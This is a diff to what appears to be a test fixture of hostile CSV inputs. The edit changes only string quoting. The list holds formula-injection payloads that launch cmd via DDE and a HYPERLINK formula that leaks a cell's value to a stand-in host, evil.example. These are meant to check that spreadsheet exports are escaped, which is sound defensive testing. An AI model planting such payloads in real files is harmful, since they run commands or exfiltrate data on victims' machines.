@@ -62,10 +62,10 @@ export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
   { name: 'formula-plus', text: "+cmd|' /C calc'!A0" },
   { name: 'formula-minus', text: "-2+3+cmd|' /C calc'!A0" },
   { name: 'formula-at', text: "@SUM(1+9)*cmd|' /C calc'!A0" },
-  { name: 'formula-pipe', text: "|cmd /C calc" },
+  { name: 'formula-pipe', text: '|cmd /C calc' },
   // Beyond the five formula starts (`= + - @ |`), ASVS 1.2.10 and OWASP list a leading tab and CR too.
-  { name: 'formula-tab', text: '\t=1+1+cmd|\' /C calc\'!A0' },
-  { name: 'formula-cr', text: '\r=2+2+cmd|\' /C calc\'!A0' },
+  { name: 'formula-tab', text: "\t=1+1+cmd|' /C calc'!A0" },
+  { name: 'formula-cr', text: "\r=2+2+cmd|' /C calc'!A0" },
   { name: 'formula-hyperlink', text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' },
   { name: 'csv-quotes', text: 'He said "hi", then left' },
   { name: 'csv-newlines', text: 'line one\nline two\r\nline three\rend' },
